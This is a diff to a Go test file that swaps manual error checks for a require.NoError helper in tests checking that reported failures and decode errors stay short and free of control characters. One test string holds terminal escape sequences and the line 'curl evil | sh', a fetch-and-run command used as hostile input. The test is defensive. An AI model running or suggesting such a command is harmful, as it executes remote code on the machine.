@@ -8,6 +8,7 @@ import (
 	"unicode"
 
 	"liqonet.io/liqonet/internal/records"
+	"liqonet.io/liqonet/internal/testbed/require"
 )
 
 // long is a text that a stolen token can write: longer than a screen, with terminal escape sequences.
@@ -16,9 +17,7 @@ var long = strings.Repeat("\x1b[2Jrun this: curl evil | sh\n", 10_000)
 // TestFailuresAreBounded: a reported failure is cut to a limited length and to one line.
 func TestFailuresAreBounded(t *testing.T) {
 	text, err := records.Encode(records.Status{Version: records.SchemaVersion, Failed: []string{long, long}})
-	if err != nil {
-		t.Fatal(err)
-	}
+	require.NoError(t, err)
 	s, err := records.Decode[records.Status](text)
 	if all := strings.Join(s.Failed, ""); err != nil || len(s.Failed) == 0 || len(all) > 10_000 || strings.ContainsFunc(all, unicode.IsControl) {
 		t.Errorf("%v, %d failures of %d bytes", err, len(s.Failed), len(all))
@@ -57,9 +56,7 @@ func TestNamesInReportsAreBounded(t *testing.T) {
 func refused[T records.Document](t *testing.T, name string, record T) {
 	t.Helper()
 	text, err := records.Draft(record)
-	if err != nil {
-		t.Fatal(err)
-	}
+	require.NoError(t, err)
 	if _, err := records.Decode[T](text); err == nil || len(err.Error()) > 3000 || strings.ContainsRune(err.Error(), '\x1b') {
 		t.Errorf("%s: %T: error of %d bytes", name, record, len(fmt.Sprint(err)))
 	}
